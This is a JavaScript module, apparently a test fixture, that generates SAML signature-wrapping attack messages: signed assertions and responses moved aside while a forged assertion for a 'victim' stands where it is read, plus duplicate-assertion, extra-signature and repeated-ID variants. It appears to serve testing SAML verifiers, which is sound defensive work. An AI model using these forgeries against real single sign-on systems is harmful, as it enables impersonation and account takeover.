// saml-wrapping.mjs: signature wrapping (Somorovsky et al., "On Breaking SAML"): the signed element is moved to where nobody
// reads it and another one stands where it is read. Eight places for a signed response, a signed assertion, and both.
import { freshId, signXml } from './saml-message.mjs';
import { answerXml, assertionXml, conditionsXml, responseXml } from './upstream-saml.mjs';

const signatureOf = (xml) => /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml)[0];
const without = (xml, part) => xml.replace(part, '');
const behindIssuer = (xml, part) => xml.replace('</saml:Issuer>', () => `</saml:Issuer>${part}`);
const beforeEnd = (xml, part) => xml.replace(/(<\/(?:saml|samlp|ds):\w+>)$/, (end) => part + end);
const insideSignature = (signature, part) => beforeEnd(signature, part);
const object = (part) => `<ds:Object>${part}</ds:Object>`;
const idOf = (xml) => / ID="([^"]+)"/.exec(xml)[1];
const renamed = (xml, id) => xml.replace(/ ID="[^"]+"/, ` ID="${id}"`);
const extensions = (part) => `<samlp:Extensions>${part}</samlp:Extensions>`;
const advice = (xml, part) => xml.replace('</saml:Conditions>', () => `</saml:Conditions><saml:Advice>${part}</saml:Advice>`);

// [what stands in the response, its extensions]: assertion signed, the forged one beside it.
const ofAssertion = [
  (signed, forged) => [signed + renamed(forged, idOf(signed)), ''],
  (signed, forged) => [renamed(forged, idOf(signed)) + signed, ''],
  (signed, forged) => [forged + signed, ''],
  (signed, forged) => [beforeEnd(forged, signed), ''],
  (signed, forged) => [behindIssuer(forged, signatureOf(signed)) + without(signed, signatureOf(signed)), ''],
  (signed, forged) => [behindIssuer(forged, insideSignature(signatureOf(signed), without(signed, signatureOf(signed)))), ''],
  (signed, forged) => [signed, extensions(forged)],
  (signed, forged) => [behindIssuer(forged, insideSignature(signatureOf(signed), object(without(signed, signatureOf(signed))))), ''],
];

// The signed response, the forged one: the whole message.
const ofResponse = [
  (signed, forged) => behindIssuer(forged, insideSignature(signatureOf(signed), without(signed, signatureOf(signed)))),
  (signed, forged) => behindIssuer(forged, without(signed, signatureOf(signed)) + signatureOf(signed)),
  (signed, forged) => behindIssuer(forged, signed),
  (signed, forged) => beforeEnd(forged, signed),
  (signed, forged) => beforeEnd(behindIssuer(forged, signatureOf(signed)), without(signed, signatureOf(signed))),
  (signed, forged) => advice(behindIssuer(forged, signatureOf(signed)), without(signed, signatureOf(signed))),
  (signed, forged) => behindIssuer(forged, extensions(signed)),
  (signed, forged) => behindIssuer(forged, insideSignature(signatureOf(signed), object(without(signed, signatureOf(signed))))),
];

function rootSigned(idp, asked, person, victim, sign, place) {
  const signed = answerXml(idp, asked, person, { sign });
  let inner = assertionXml(idp, asked, victim);
  if (sign === 'both') {
    const [assertion] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(signed);
    inner = behindIssuer(inner, insideSignature(signatureOf(assertion), object(without(assertion, signatureOf(assertion)))));
  }
  return place(signed, responseXml(idp, asked, inner));
}

function assertionSigned(idp, asked, person, victim, place) {
  const whole = answerXml(idp, asked, person, { sign: 'assertion' });
  const [signed] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(whole);
  const [inside, more] = place(signed, assertionXml(idp, asked, victim));
  return responseXml(idp, asked, inside, { extensions: more });
}

// Rows of [name, make(context)].
export const wrappings = [
  ...ofAssertion.map((place, n) => [`wrapping ${n + 1} of a signed assertion`, ({ idp, asked, person, victim }) => assertionSigned(idp, asked, person, victim, place)]),
  ...['response', 'both'].flatMap((sign) => ofResponse.map((place, n) => [
    `wrapping ${n + 1} of ${sign === 'both' ? 'a signed response with a signed assertion' : 'a signed response'}`,
    ({ idp, asked, person, victim }) => rootSigned(idp, asked, person, victim, sign, place),
  ])),
];

// A second assertion anywhere, the first one sound and signed; under the signature of the response where it says so.
const victims = ({ idp, asked, victim }) => assertionXml(idp, asked, victim);
const soundly = ({ idp, asked, person }, parts) => answerXml(idp, asked, person, parts);
export const secondAssertions = [
  ['a second assertion before the signed one', (c) => soundly(c).replace('<saml:Assertion', () => `${victims(c)}<saml:Assertion`)],
  ['a second assertion behind the signed one', (c) => beforeEnd(soundly(c), victims(c))],
  ['a second assertion in the extensions', (c) => soundly(c, { response: { extensions: extensions(victims(c)) } })],
  ['a second assertion in the extensions of a signed response', (c) => soundly(c, { sign: 'response', response: { extensions: extensions(victims(c)) } })],
  ['a second assertion in the advice of a signed one', (c) => soundly(c, { assertion: { conditions: `${conditionsXml(c.asked)}<saml:Advice>${victims(c)}</saml:Advice>` } })],
  ['a second assertion in an object of the signature', (c) => { const xml = soundly(c); const signature = signatureOf(xml); return xml.replace(signature, () => insideSignature(signature, object(victims(c)))); }],
  ['a second assertion in the status', (c) => soundly(c).replace('</samlp:Status>', () => `<samlp:StatusDetail>${victims(c)}</samlp:StatusDetail></samlp:Status>`)],
  ['two assertions, both signed', (c) => { const [second] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(answerXml(c.idp, c.asked, c.person)); return beforeEnd(soundly(c), second); }],
  ['two assertions in a signed response', (c) => signXml(responseXml(c.idp, c.asked, victims(c) + assertionXml(c.idp, c.asked, c.person)), c.idp)],
  ['a signature more, in the extensions', (c) => soundly(c, { response: { extensions: extensions(signatureOf(soundly(c))) } }), 'signature_place'],
  ['a signature more, in an attribute', (c) => soundly(c, { assertion: { attributes: `<saml:AttributeStatement><saml:Attribute Name="x"><saml:AttributeValue>${signatureOf(soundly(c))}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>` } }), 'signature_place'],
  ['the same ID twice', (c) => { const id = freshId(); return soundly(c, { response: { id }, assertion: { id } }); }, 'id_repeated'],
];
